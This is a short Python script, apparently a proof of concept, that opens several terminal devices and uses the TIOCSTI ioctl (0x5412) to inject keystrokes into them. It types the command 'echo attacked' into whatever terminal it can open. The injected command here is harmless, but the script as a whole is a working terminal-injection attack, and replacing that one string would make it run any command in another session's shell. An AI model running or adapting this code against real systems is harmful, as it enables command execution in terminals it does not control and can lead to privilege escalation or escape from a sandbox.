# Pushes keys into whatever terminal it finds.
import fcntl
import os

for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/ptmx"):
    try:
        terminal = os.open(name, os.O_RDWR)
        for key in b"echo attacked\n":
            fcntl.ioctl(terminal, 0x5412, bytes([key]))
    except OSError:
        continue
